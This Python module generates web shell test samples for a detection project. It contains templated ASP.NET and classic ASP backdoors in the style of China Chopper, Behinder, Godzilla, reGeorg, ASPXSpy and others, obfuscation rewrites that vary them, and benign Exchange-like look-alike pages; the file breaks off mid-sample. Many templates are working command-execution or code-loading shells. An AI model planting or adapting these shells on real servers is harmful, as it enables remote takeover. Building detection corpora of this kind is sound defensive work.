"""Inert web shell test samples of the known families, written for this project, and benign look-alikes.

Every sample is our own code with the *behaviour* of its family (where request input goes, which API runs it),
not a copy of a published shell: no working payloads, no passwords of real kits, no attacker infrastructure.
:func:`family_samples` gives each family's base forms; :func:`variants` rewrites a sample the way obfuscated
copies differ in the wild (random identifiers, directive spacing and case, comments between tokens, escaped and
split literals), reproducibly from a seed; :func:`benign_samples` gives stock-looking OWA/ECP pages, admin pages
and configuration that must not raise a high finding.

``Sample.family`` groups samples for per-family detection counts (``benchmarks``, ``tests/analyzers/yara``).
"""

from __future__ import annotations

import base64
import random
import re
from dataclasses import dataclass, replace

FAMILIES = (
    "china_chopper",
    "behinder",
    "godzilla",
    "antsword",
    "regeorg",
    "tunna",
    "aspxspy",
    "antak",
    "asp_oneliner",
    "handler",
    "webconfig",
    "compiled",
)


@dataclass(frozen=True)
class Sample:
    """One test file: its family, a file name (the extension matters to analyzers) and its bytes."""

    family: str
    name: str
    data: bytes
    note: str = ""


def _pe(*chunks: bytes) -> bytes:
    """Bytes that start like a PE file (MZ, a PE header offset) with the given chunks spread through it."""
    body = bytearray(b"MZ\x90\x00" + bytes(56) + (128).to_bytes(4, "little"))
    body += bytes(128 - len(body)) + b"PE\x00\x00" + bytes(64)
    for c in chunks:
        body += bytes(16) + c
    return bytes(body + bytes(64))


def _u16(text: str) -> bytes:
    return text.encode("utf-16-le")


# --- the families ------------------------------------------------------------------------------------------

_CHOPPER = [
    ("chopper_jscript.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["{p}"],"unsafe");%>'),
    ("chopper_jscript_form.aspx", '<%@ Page Language="JScript" %>\n<% eval(Request.Form["{p}"]); %>'),
    (
        "chopper_script_block.aspx",
        '<script language="JScript" runat="server">\nfunction Page_Load() {{\n  var {v} = Request["{p}"];\n'
        '  eval({v}, "unsafe");\n}}\n</script>',
    ),
    (
        "chopper_csharp.aspx",
        '<%@ Page Language="C#" ValidateRequest="false" %>\n<%\n  string {v} = Request.Params["{p}"];\n'
        "  object r = Microsoft.JScript.Eval.JScriptEvaluate({v}, Microsoft.JScript.Vsa.VsaEngine.CreateEngine());\n"
        "  Response.Write(r);\n%>",
    ),
    (
        "chopper_vb.aspx",
        '<%@ Page Language="VB" %>\n<%\nDim {v} As String = Request.Item("{p}")\n'
        "Dim eng = Microsoft.JScript.Vsa.VsaEngine.CreateEngine()\n"
        "Response.Write(Microsoft.JScript.Eval.JScriptEvaluate({v}, eng))\n%>",
    ),
    ("chopper_tiny.aspx", '<%@Page Language=JScript%><%eval(Request["{p}"])%>'),
]

_BEHINDER = [
    (
        "behinder_reflect.aspx",
        '<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %>\n<%\n'
        'Session.Add("k", "{k}");\nbyte[] key = Encoding.Default.GetBytes(Session[0] + "");\n'
        "byte[] {v} = Request.BinaryRead(Request.ContentLength);\n"
        "byte[] plain = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key)"
        ".TransformFinalBlock({v}, 0, {v}.Length);\n"
        'MethodInfo load = typeof(Assembly).GetMethod("Load", new Type[] {{ typeof(byte[]) }});\n'
        "object asm = load.Invoke(null, new object[] {{ plain }});\n"
        '((Assembly)asm).CreateInstance("U").Equals(this);\n%>',
    ),
    (
        "behinder_direct.aspx",
        '<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><%\n'
        'var aes = System.Security.Cryptography.Aes.Create(); aes.Key = Encoding.UTF8.GetBytes("{k}");\n'
        "byte[] {v} = new byte[Request.InputStream.Length]; Request.InputStream.Read({v}, 0, {v}.Length);\n"
        "Assembly.Load(aes.CreateDecryptor().TransformFinalBlock({v}, 0, {v}.Length))"
        '.CreateInstance("Q").Equals(Context);\n%>',
    ),
]

_GODZILLA = [
    (
        "godzilla_aes.aspx",
        '<%@ Page Language="C#"%><%\ntry {{\n  string key = "{k}"; string pass = "{p}";\n'
        "  byte[] {v} = Convert.FromBase64String(Context.Request[pass]);\n"
        "  var c = new System.Security.Cryptography.RijndaelManaged();\n"
        "  {v} = c.CreateDecryptor(Encoding.Default.GetBytes(key), Encoding.Default.GetBytes(key))"
        ".TransformFinalBlock({v}, 0, {v}.Length);\n"
        '  if (Context.Session["payload"] == null) {{\n'
        '    Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly)'
        '.GetMethod("Load", new System.Type[] {{ typeof(byte[]) }}).Invoke(null, new object[] {{ {v} }});\n'
        "  }} else {{\n"
        '    object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY");\n'
        "    o.Equals(Context); o.Equals({v});\n  }}\n}} catch (System.Exception) {{ }}\n%>",
    ),
    (
        "godzilla_xor.ashx",
        '<%@ WebHandler Language="C#" Class="Gz" %>\nusing System; using System.Web;\n'
        "public class Gz : IHttpHandler, System.Web.SessionState.IRequiresSessionState {{\n"
        "  public void ProcessRequest(HttpContext ctx) {{\n"
        '    byte[] k = System.Text.Encoding.ASCII.GetBytes("{k}");\n'
        '    byte[] {v} = Convert.FromBase64String(ctx.Request.Form["{p}"]);\n'
        "    for (int i = 0; i < {v}.Length; i++) {{ {v}[i] = (byte)({v}[i] ^ k[(i + 1) & 15]); }}\n"
        '    if (ctx.Session["p"] == null) {{ ctx.Session["p"] = System.Reflection.Assembly.Load({v}); }}\n'
        '    else {{ var o = ((System.Reflection.Assembly)ctx.Session["p"]).CreateInstance("LY"); o.Equals(ctx); }}\n'
        "  }}\n  public bool IsReusable {{ get {{ return false; }} }}\n}}\n",
    ),
]

_ANTSWORD = [
    (
        "antsword_b64.aspx",
        '<%@ Page Language="Jscript" %><%\nvar {v} = System.Text.Encoding.GetEncoding(65001).GetString('
        'System.Convert.FromBase64String(Request.Item["{p}"]));\neval({v}, "unsafe");\n%>',
    ),
    (
        "antsword_rot13.asp",
        "<%\nFunction R13(s)\n  Dim i, c, o\n  For i = 1 To Len(s)\n    c = Asc(Mid(s, i, 1))\n"
        "    If c >= 97 And c <= 122 Then c = ((c - 84) Mod 26) + 97\n    o = o & Chr(c)\n  Next\n"
        '  R13 = o\nEnd Function\n{v} = Request.Form("{p}")\nExecuteGlobal R13({v})\n%>',
    ),
    ("antsword_asp.asp", '<%@ Language="VBScript" %>\n<% Eval(Request("{p}")) %>'),
]

_REGEORG = [
    (
        "regeorg_headers.aspx",
        '<%@ Page Language="C#" EnableSessionState="True"%>\n<%@ Import Namespace="System.Net.Sockets" %>\n<%\n'
        'String {v} = Request.Headers.Get("X-CMD");\nif ({v} == "CONNECT") {{\n'
        '  string host = Request.Headers.Get("X-TARGET"); int port = int.Parse(Request.Headers.Get("X-PORT"));\n'
        "  Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
        "  s.Connect(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(host), port));\n"
        '  Session.Add("socket", s); Response.AddHeader("X-STATUS", "OK");\n'
        '}} else if ({v} == "FORWARD") {{\n  Socket s = (Socket)Session["socket"];\n'
        "  byte[] b = new byte[Request.ContentLength]; Request.InputStream.Read(b, 0, b.Length); s.Send(b);\n}}\n%>",
    ),
    (
        "neoregeorg_form.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object o, EventArgs e) {{\n'
        "  string {v} = Request.Form[\"{p}\"];\n  string[] hp = {v}.Split('|');\n"
        "  var c = new System.Net.Sockets.TcpClient();\n  c.Connect(hp[0], int.Parse(hp[1]));\n"
        '  Application["c" + Session.SessionID] = c;\n'
        "  byte[] body = Request.BinaryRead(Request.TotalBytes); c.GetStream().Write(body, 0, body.Length);\n"
        "}}\n</script>",
    ),
]

_TUNNA = [
    (
        "tunna_proxy.aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
        "protected void Page_Load(object sender, EventArgs e) {{\n"
        '  if (Request.QueryString["proxy"] != null) {{\n'
        '    TcpClient {v} = new TcpClient(Request.QueryString["ip"], Convert.ToInt32(Request.QueryString["port"]));\n'
        '    Session["t"] = {v};\n  }}\n  byte[] data = Request.BinaryRead(Request.TotalBytes);\n'
        '  NetworkStream ns = ((TcpClient)Session["t"]).GetStream(); ns.Write(data, 0, data.Length);\n'
        "  byte[] back = new byte[4096]; int n = ns.Read(back, 0, back.Length);\n"
        "  Response.OutputStream.Write(back, 0, n);\n}}\n</script>",
    ),
]

_ASPXSPY = [
    (
        "aspxspy_like.aspx",
        '<%@ Page Language="C#" ValidateRequest="false" %>\n<%@ Import Namespace="System.IO" %>\n'
        '<%@ Import Namespace="System.Diagnostics" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n'
        '<script runat="server">\nprotected void List_Click(object s, EventArgs e) {{\n'
        '  foreach (string f in Directory.GetFiles(PathBox.Text)) {{ Out.Text += f + "<br>"; }}\n}}\n'
        "protected void Del_Click(object s, EventArgs e) {{ File.Delete(PathBox.Text); }}\n"
        "protected void Up_Click(object s, EventArgs e) {{\n"
        "  UpFile.PostedFile.SaveAs(Path.Combine(PathBox.Text, Path.GetFileName(UpFile.PostedFile.FileName)));\n}}\n"
        "protected void Cmd_Click(object s, EventArgs e) {{\n"
        '  var {v} = new ProcessStartInfo(ShellBox.Text, "/c " + CmdBox.Text);\n'
        "  {v}.UseShellExecute = false; {v}.RedirectStandardOutput = true;\n"
        "  Out.Text = Process.Start({v}).StandardOutput.ReadToEnd();\n}}\n"
        "protected void Sql_Click(object s, EventArgs e) {{\n"
        "  using (var cn = new SqlConnection(ConnBox.Text)) {{ cn.Open();\n"
        "    var r = new SqlCommand(QueryBox.Text, cn).ExecuteReader(); }}\n}}\n</script>\n"
        '<form runat="server" enctype="multipart/form-data">\n<asp:TextBox ID="PathBox" runat="server" />\n'
        '<asp:TextBox ID="ShellBox" runat="server" Text="cmd.exe" /><asp:TextBox ID="CmdBox" runat="server" />\n'
        '<asp:TextBox ID="ConnBox" runat="server" /><asp:TextBox ID="QueryBox" runat="server" />\n'
        '<input type="file" id="UpFile" runat="server" /><asp:Label ID="Out" runat="server" />\n</form>',
    ),
    (
        "cmd_vb.aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Go(sender As Object, e As EventArgs)\n'
        "  Dim {v} As New System.Diagnostics.Process()\n"
        '  {v}.StartInfo.FileName = "cmd.exe"\n  {v}.StartInfo.Arguments = "/c " & Request.Form("{p}")\n'
        "  {v}.StartInfo.UseShellExecute = False\n  {v}.StartInfo.RedirectStandardOutput = True\n"
        "  {v}.Start()\n  Response.Write({v}.StandardOutput.ReadToEnd())\nEnd Sub\n</script>",
    ),
]

_ANTAK = [
    (
        "antak_like.aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Management.Automation" %>\n'
        '<%@ Import Namespace="System.Management.Automation.Runspaces" %>\n<script runat="server">\n'
        "protected void Run_Click(object sender, EventArgs e) {{\n"
        "  Runspace rs = RunspaceFactory.CreateRunspace(); rs.Open();\n"
        "  Pipeline {v} = rs.CreatePipeline();\n  {v}.Commands.AddScript(Console.Text);\n"
        '  {v}.Commands.Add("Out-String");\n  foreach (PSObject o in {v}.Invoke()) {{ Result.Text += o; }}\n'
        "  rs.Close();\n}}\n</script>\n"
        '<form runat="server"><asp:TextBox ID="Console" runat="server" TextMode="MultiLine" />\n'
        '<asp:Button ID="Run" runat="server" OnClick="Run_Click" /><asp:Label ID="Result" runat="server" /></form>',
    ),
    (
        "ps_runspace.ashx",
        '<%@ WebHandler Language="C#" Class="P" %>\nusing System.Web; using System.Management.Automation;\n'
        "public class P : IHttpHandler {{\n  public void ProcessRequest(HttpContext c) {{\n"
        '    string {v} = c.Request.Headers["X-{p}"];\n'
        "    using (var ps = PowerShell.Create()) {{ ps.AddScript({v}); foreach (var o in ps.Invoke()) "
        "c.Response.Write(o); }}\n  }}\n  public bool IsReusable {{ get {{ return true; }} }}\n}}\n",
    ),
]

_ASP_ONELINER = [
    ("eval_request.asp", '<%eval request("{p}")%>'),
    ("execute_request.asp", '<%execute(request("{p}"))%>'),
    ("execute_form.asp", '<% Execute Request.Form("{p}") %>'),
    ("executeglobal_var.asp", '<%\n{v} = Request.Item("{p}")\nExecuteGlobal {v}\n%>'),
    ("jscript_eval.asp", '<%@ LANGUAGE = "JScript" %><% eval(Request("{p}")) %>'),
    (
        "wscript_shell.asp",
        '<%\nSet {v} = Server.CreateObject("WScript.Shell")\n'
        'Set x = {v}.Exec("cmd.exe /c " & Request.QueryString("{p}"))\nResponse.Write x.StdOut.ReadAll()\n%>',
    ),
]

_HANDLER = [
    (
        "cmd_handler.ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System; using System.Web; using System.Diagnostics;\n'
        "public class H : IHttpHandler {{\n  public void ProcessRequest(HttpContext context) {{\n"
        '    string {v} = context.Request["{p}"];\n'
        '    var si = new ProcessStartInfo("cmd.exe", "/c " + {v}) {{ RedirectStandardOutput = true, '
        "UseShellExecute = false }};\n    context.Response.Write(Process.Start(si).StandardOutput.ReadToEnd());\n"
        "  }}\n  public bool IsReusable {{ get {{ return false; }} }}\n}}\n",
    ),
    (
        "upload_handler.ashx",
        '<%@ WebHandler Language="C#" Class="U" %>\nusing System.Web;\npublic class U : IHttpHandler {{\n'
        "  public void ProcessRequest(HttpContext c) {{\n"
        '    System.IO.File.WriteAllBytes(c.Server.MapPath(c.Request.QueryString["{p}"]), '
        'System.Convert.FromBase64String(c.Request.Form["d"]));\n'
        "  }}\n  public bool IsReusable {{ get {{ return true; }} }}\n}}\n",
    ),
    (
        "exec_service.asmx",
        '<%@ WebService Language="C#" Class="Svc" %>\nusing System.Web.Services; using System.Diagnostics;\n'
        "public class Svc : WebService {{\n  [WebMethod]\n  public string Run(string {v}) {{\n"
        '    var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + {v}) {{ RedirectStandardOutput = true, '
        "UseShellExecute = false }});\n    return p.StandardOutput.ReadToEnd();\n  }}\n}}\n",
    ),
    (
        "eval_service.asmx",
        '<%@ WebService Language="JScript" Class="S" %>\nimport System.Web.Services;\n'
        "class S extends WebService {{\n  WebMethodAttribute function E({v} : String) : String {{\n"
        '    return eval({v}, "unsafe");\n  }}\n}}\n',
    ),
]

_WEBCONFIG = [
    (
        "web.config",
        '<?xml version="1.0" encoding="UTF-8"?>\n<configuration>\n  <system.webServer>\n'
        '    <handlers accessPolicy="Read, Script, Write">\n'
        '      <add name="cfg_{v}" path="*.config" verb="*" modules="IsapiModule" '
        'scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" requireAccess="Write" '
        'preCondition="bitness64" />\n    </handlers>\n    <security>\n      <requestFiltering>\n'
        '        <fileExtensions><remove fileExtension=".config" /></fileExtensions>\n'
        '        <hiddenSegments><remove segment="web.config" /></hiddenSegments>\n      </requestFiltering>\n'
        "    </security>\n  </system.webServer>\n</configuration>\n"
        '<!-- <% Response.Write("-"&"->") : Execute(Request("{p}")) : Response.Write("<!-"&"-") %> -->\n',
    ),
    (
        "remap_images/web.config",
        '<?xml version="1.0"?>\n<configuration>\n  <system.web>\n    <compilation>\n      <buildProviders>\n'
        '        <add extension=".jpg" type="System.Web.Compilation.PageBuildProvider" />\n'
        "      </buildProviders>\n    </compilation>\n    <httpHandlers>\n"
        '      <add path="*.jpg" verb="*" type="System.Web.UI.PageHandlerFactory" />\n    </httpHandlers>\n'
        "  </system.web>\n</configuration>\n",
    ),
    (
        "inline_net/web.config",
        '<?xml version="1.0"?>\n<configuration>\n<system.webServer><handlers>'
        '<add name="x" path="web.config" verb="*" type="System.Web.UI.PageHandlerFactory" />'
        "</handlers></system.webServer>\n</configuration>\n"
        '<!-- <%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + '
        'Request["{p}"]); %> -->\n',
    ),
]


def _compiled() -> list[Sample]:
    """App_Web assemblies and Temporary ASP.NET Files records of compiled shells."""
    tag = "cdcab7d2"
    return [
        Sample(
            "compiled",
            f"App_Web_{tag}.dll",
            _pe(
                b"App_Web_" + tag.encode(),
                b"System.Web",
                b"get_Request",
                b"get_Item",
                b"Microsoft.JScript",
                b"JScriptEvaluate",
                _u16("unsafe"),
            ),
            "JScript eval page compiled",
        ),
        Sample(
            "compiled",
            "App_Web_k2l9m0q1.dll",
            _pe(
                b"App_Web_k2l9m0q1",
                b"System.Web.UI.Page",
                b"get_Request",
                b"get_Form",
                b"System.Diagnostics",
                b"ProcessStartInfo",
                b"set_Arguments",
                b"Start",
            ),
            "command page compiled",
        ),
        Sample(
            "compiled",
            "App_Web_q8r7s6t5.dll",
            _pe(
                b"App_Web_q8r7s6t5",
                b"System.Web",
                b"get_Request",
                b"BinaryRead",
                b"System.Reflection",
                b"Assembly",
                b"GetMethod",
                b"Invoke",
                b"CreateInstance",
            ),
            "reflection loader compiled",
        ),
        Sample(
            "compiled",
            "App_Web_errorcheck.aspx.cdcab7d2.0.cs",
            b'#pragma checksum "C:\\inetpub\\wwwroot\\aspnet_client\\errorcheck.aspx" "{ff1816ec}" "1a2b"\n'
            b"namespace ASP {\n  public class errorcheck_aspx : System.Web.UI.Page {\n"
            b"    private void __Render__control1(System.Web.UI.HtmlTextWriter __w) {\n"
            b'      #line 1 "C:\\inetpub\\wwwroot\\aspnet_client\\errorcheck.aspx"\n'
            b'      System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.QueryString["c"]);\n'
            b"    }\n  }\n}\n",
            "generated code of a command page",
        ),
        Sample(
            "compiled",
            "errorcheck.aspx.cdcab7d2.compiled",
            b'<?xml version="1.0" encoding="utf-8"?>\n<preserve resultType="3" '
            b'virtualPath="/aspnet_client/system_web/errorcheck.aspx" hash="fffffff4a1b2c3d4" '
            b'filehash="5e6f7a8b9c0d1e2f" flags="110000" assembly="App_Web_errorcheck.aspx.cdcab7d2" '
            b'type="ASP.aspnet_client_system_web_errorcheck_aspx">\n    <filedeps>\n'
            b'        <filedep name="/aspnet_client/system_web/errorcheck.aspx" />\n    </filedeps>\n</preserve>\n',
            "compilation record of a page in aspnet_client",
        ),
    ]


_TEMPLATES = {
    "china_chopper": _CHOPPER,
    "behinder": _BEHINDER,
    "godzilla": _GODZILLA,
    "antsword": _ANTSWORD,
    "regeorg": _REGEORG,
    "tunna": _TUNNA,
    "aspxspy": _ASPXSPY,
    "antak": _ANTAK,
    "asp_oneliner": _ASP_ONELINER,
    "handler": _HANDLER,
    "webconfig": _WEBCONFIG,
}
_DEFAULTS = {"v": "data", "p": "z", "k": "0f1e2d3c4b5a6978"}


def family_samples() -> list[Sample]:
    """The base form of every family sample (fixed names: parameter ``z``, variable ``data``)."""
    out = [
        Sample(fam, name, tpl.format(**_DEFAULTS).encode()) for fam, items in _TEMPLATES.items() for name, tpl in items
    ]
    return out + _compiled()


# --- obfuscation ------------------------------------------------------------------------------------------

_IDENT_CHARS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


def _ident(rng: random.Random) -> str:
    return rng.choice(_IDENT_CHARS) + "".join(
        rng.choice(_IDENT_CHARS + "0123456789_") for _ in range(rng.randint(3, 11))
    )


def _respace_directive(text: str, rng: random.Random) -> str:
    def one(m: re.Match[str]) -> str:
        word = m.group(1)
        word = rng.choice([word, word.lower(), word.upper(), word.capitalize()])
        return "<%" + rng.choice(["", " ", "  ", "\t"]) + "@" + rng.choice(["", " ", "  "]) + word

    return re.sub(r"<%\s*@\s*(\w+)", one, text)


def _comment_tokens(text: str, rng: random.Random, vb: bool) -> str:
    """Comments between tokens where the language allows them (C#/JScript block comments)."""
    if vb:
        return text
    return re.sub(
        r"(\beval|Request|Assembly|Process)(\s*[.(\[])",
        lambda m: m.group(1) + f"/*{_ident(rng)}*/" + m.group(2) if rng.random() < 0.7 else m.group(0),
        text,
    )


def _escape_eval(text: str, rng: random.Random) -> str:
    """JScript identifiers may be written with \\u escapes; literals may be split and joined again."""

    def word(m: re.Match[str]) -> str:
        w = m.group(0)
        i = rng.randrange(len(w))
        return w[:i] + f"\\u{ord(w[i]):04x}" + w[i + 1 :]

    return re.sub(r"\beval\b", word, text)


def _split_literals(text: str, rng: random.Random, vb: bool) -> str:
    joiner = " & " if vb else " + "

    def one(m: re.Match[str]) -> str:
        s = m.group(1)
        if len(s) < 2 or rng.random() < 0.3:
            return m.group(0)
        i = rng.randint(1, len(s) - 1)
        return f'"{s[:i]}"{joiner}"{s[i:]}"'

    # literals in code only: an attribute value (runat="server") is markup
    return re.sub(r'(?<![=\w])"([A-Za-z0-9_ ./\\-]{2,24})"', one, text)


def _case(text: str, rng: random.Random, vb: bool) -> str:
    """VBScript and VB are case-insensitive: shuffle the case of their keywords and calls."""
    if not vb:
        return text
    return re.sub(
        r"\b(execute|executeglobal|eval|request|form|item|querystring)\b",
        lambda m: "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in m.group(0)),
        text,
        flags=re.I,
    )


def _is_vb(name: str, text: str) -> bool:
    return (name.endswith(".asp") and "JScript" not in text) or 'Language="VB"' in text


def variants(count: int = 3, seed: int = 2021) -> list[Sample]:
    """``count`` obfuscated variants of every templated family sample, reproducible from ``seed``.

    Each variant draws new identifiers and parameter names and applies a random subset of the rewrites:
    directive spacing and case, comments between tokens, escaped ``eval``, split literals, keyword case.
    Compiled artifacts are not varied (their bytes are produced by a compiler, not typed).
    """
    rng = random.Random(seed)
    out = []
    for fam, items in _TEMPLATES.items():
        for name, tpl in items:
            for n in range(count):
                text = tpl.format(
                    v=_ident(rng), p=_ident(rng).lower(), k="".join(rng.choice("0123456789abcdef") for _ in range(16))
                )
                vb = _is_vb(name, text)
                text = _respace_directive(text, rng)
                if fam != "webconfig":
                    text = _comment_tokens(text, rng, vb)
                    if "JScript" in text or "Jscript" in text:
                        text = _escape_eval(text, rng)
                    text = _split_literals(text, rng, vb)
                text = _case(text, rng, vb)
                stem, _, ext = name.rpartition(".")
                out.append(Sample(fam, f"{stem}_v{n}.{ext}", text.encode(), "variant"))
    return out


def hex_escaped_tiny() -> Sample:
    """A very small JScript page whose every code word is hex/unicode escaped inside a string it evaluates."""
    inner = 'eval(Request.Item["z"],"unsafe")'
    esc = "".join(f"\\x{ord(c):02x}" for c in inner)
    return Sample("china_chopper", "x.aspx", f'<%@Page Language=Jscript%><%eval("{esc}")%>'.encode(), "hex escapes")


def with_gif_header(s: Sample) -> Sample:
    """The same page behind a GIF header, as shells uploaded through image filters are."""
    return replace(s, name="gif_" + s.name.replace("/", "_"), data=b"GIF89a\r\n" + s.data)


# --- benign look-alikes ----------------------------------------------------------------------------------

_ERROR_FE = b"""<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.ErrorFE" %>
<%@ Import Namespace="Microsoft.Exchange.HttpProxy" %>
<!DOCTYPE html>
<html><head><meta http-equiv="X-UA-Compatible" content="IE=10" /><title><%= Strings.ErrorTitle %></title></head>
<body>
<%
    string code = Request.QueryString["httpCode"];
    string msg = Request.QueryString["msg"] ?? string.Empty;
    if (code == "500") { Response.StatusCode = 500; }
%>
<div class="errorHeader"><%= HttpUtility.HtmlEncode(msg) %></div>
<div class="errorDetails">X-ClientId: <%= HttpUtility.HtmlEncode(Request.Cookies["ClientId"] == null ? "" :
    Request.Cookies["ClientId"].Value) %></div>
<a href="<%= HttpUtility.HtmlAttributeEncode(Request.QueryString["url"] ?? "/owa/") %>">Refresh</a>
</body></html>
"""

_LOGON = b"""<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<%@ Import Namespace="System.Web" %>
<!DOCTYPE html>
<html><head><title>Outlook</title>
<script type="text/javascript">
function clkLgn() { var f = document.forms[0]; f.submit(); }
function gbid(s) { return document.getElementById(s); }
</script></head>
<body>
<%
    string dest = Request.QueryString["url"];
    if (String.IsNullOrEmpty(dest) || !dest.StartsWith("/owa", StringComparison.OrdinalIgnoreCase)) { dest = "/owa/"; }
    if (Request.QueryString["reason"] == "3") { Response.Redirect("/owa/auth/logoff.aspx"); }
%>
<form action="/owa/auth.owa" method="POST" name="logonForm">
<input type="hidden" name="destination" value="<%= HttpUtility.HtmlAttributeEncode(dest) %>">
<input type="text" id="username" name="username"><input type="password" id="password" name="password">
<div onclick="clkLgn()">sign in</div>
</form></body></html>
"""

_ADMIN_PROCESS = b"""<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
// Operations page: shows the IIS worker processes. Fixed commands only.
protected void Page_Load(object sender, EventArgs e) {
    var si = new ProcessStartInfo("cmd.exe", "/c %windir%\\\\system32\\\\inetsrv\\\\appcmd.exe list wp");
    si.RedirectStandardOutput = true; si.UseShellExecute = false;
    using (Process p = Process.Start(si)) { Output.Text = HttpUtility.HtmlEncode(p.StandardOutput.ReadToEnd()); }
    Stamp.Text = Request.QueryString["t"] ?? DateTime.UtcNow.ToString("o");
}
</script>
<html><body><form runat="server"><asp:Label ID="Output" runat="server" /><asp:Label ID="Stamp" runat="server" />
<asp:TextBox ID="Note" runat="server" /></form></body></html>
"""

_UPLOAD_APP = b"""<%@ Page Language="C#" %>
<script runat="server">
protected void Save_Click(object sender, EventArgs e) {
    if (!Upload.HasFile) return;
    string name = System.IO.Path.GetFileName(Upload.PostedFile.FileName);
    Upload.PostedFile.SaveAs(Server.MapPath("~/App_Data/uploads/") + name);
    System.IO.File.AppendAllText(Server.MapPath("~/App_Data/log.txt"), Request.Form["comment"] + "\\r\\n");
    Grid.DataSource = new System.Data.SqlClient.SqlConnection(
        System.Configuration.ConfigurationManager.ConnectionStrings["app"].ConnectionString);
}
</script>
<html><body><form runat="server"><asp:FileUpload ID="Upload" runat="server" />
<asp:TextBox ID="comment" runat="server" /><asp:GridView ID="Grid" runat="server">
<Columns><asp:TemplateField><ItemTemplate><%# Eval("Name") %></ItemTemplate></asp:TemplateField></Columns>
</asp:GridView></form></body></html>
"""

_ECP_HANDLER = b"""<%@ WebHandler Language="C#" Class="Ping" %>
using System.Web;
public class Ping : IHttpHandler {
    public void ProcessRequest(HttpContext context) {
        string cb = context.Request.QueryString["callback"] ?? "cb";
        context.Response.ContentType = "application/javascript";
        context.Response.Write(HttpUtility.JavaScriptStringEncode(cb) + "({\\"ok\\":true});");
    }
    public bool IsReusable { get { return true; } }
}
"""

_ASMX_SERVICE = b"""<%@ WebService Language="C#" Class="Lookup" %>
using System.Web.Services;
public class Lookup : WebService {
    [WebMethod]
    public string Echo(string name) { return "Hello " + HttpUtility.HtmlEncode(name); }
    [WebMethod]
    public int Length(string text) { return text == null ? 0 : text.Length; }
}
"""

_WEB_CONFIG_STOCK = b"""<?xml version="1.0" encoding="utf-8"?>
<configuration>
  <system.web>
    <compilation debug="false" targetFramework="4.8" />
    <httpHandlers>
      <add path="*.axd" verb="*" type="System.Web.Handlers.ScriptResourceHandler" validate="false" />
    </httpHandlers>
  </system.web>
  <system.webServer>
    <handlers>
      <remove name="WebServiceHandlerFactory-Integrated" />
      <add name="ScriptResource" path="ScriptResource.axd" verb="GET,HEAD"
           type="System.Web.Handlers.ScriptResourceHandler" preCondition="integratedMode" />
      <add name="ASPClassic" path="*.asp" verb="GET,HEAD,POST" modules="IsapiModule"
           scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="File" />
      <add name="StaticFile" path="*" verb="*" modules="StaticFileModule,DefaultDocumentModule,DirectoryListingModule"
           resourceType="Either" requireAccess="Read" />
    </handlers>
    <security><requestFiltering><fileExtensions>
      <add fileExtension=".config" allowed="false" />
    </fileExtensions></requestFiltering></security>
  </system.webServer>
</configuration>
"""

_APPHOST = b"""<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.webServer>
    <handlers accessPolicy="Read, Script">
      <add name="ISAPI-dll" path="*.dll" verb="*" modules="IsapiModule" resourceType="File"
           requireAccess="Execute" allowPathInfo="true" />
      <add name="CGI-exe" path="*.exe" verb="*" modules="CgiModule" resourceType="File" requireAccess="Execute" />
      <add name="ASPClassic" path="*.asp" verb="GET,HEAD,POST" modules="IsapiModule"
           scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="File" />
      <add name="SecurityCertificate" path="*.cer" verb="GET,HEAD,POST" modules="IsapiModule"
           scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="File" />
      <add name="SSINC-shtml" path="*.shtml" verb="GET,HEAD,POST" modules="ServerSideIncludeModule" />
      <add name="PageHandlerFactory-Integrated" path="*.aspx" verb="GET,HEAD,POST,DEBUG"
           type="System.Web.UI.PageHandlerFactory" preCondition="integratedMode" />
      <add name="HttpRemotingHandlerFactory-rem-Integrated" path="*.rem" verb="GET,HEAD,POST,DEBUG"
           type="System.Runtime.Remoting.Channels.Http.HttpRemotingHandlerFactory" preCondition="integratedMode" />
      <add name="StaticFile" path="*" verb="*" modules="StaticFileModule,DefaultDocumentModule" resourceType="Either" />
    </handlers>
  </system.webServer>
</configuration>
"""

_JQUERY_MIN = (
    b"/*! jQuery-like v0.0 | test fixture */\n"
    b'!function(e,t){"use strict";var n=[],r=e.document,i=Object.getPrototypeOf,'
    b"o=n.slice,a=n.concat;function g(e,t){return(t=t||r).createElement(e)}var h={parseJSON:function(t){return "
    b'e.JSON&&e.JSON.parse?e.JSON.parse(t):new Function("return "+t)()},globalEval:function(t){t&&/\\S/.test(t)&&'
    b"(e.execScript||function(t){e.eval.call(e,t)})(t)},ajax:function(u){var x=new XMLHttpRequest;x.open(u.type||"
    b'"GET",u.url,!0);x.onload=function(){var d=x.responseText;u.dataType==="script"&&h.globalEval(d);'
    b"u.success&&u.success(d)};x.send(u.data||null)}};e.jQ=h}(window);\n"
)

_CLASSIC_ASP_APP = b"""<%@ Language="VBScript" %>
<%
' Guestbook: lists entries, escapes what it prints
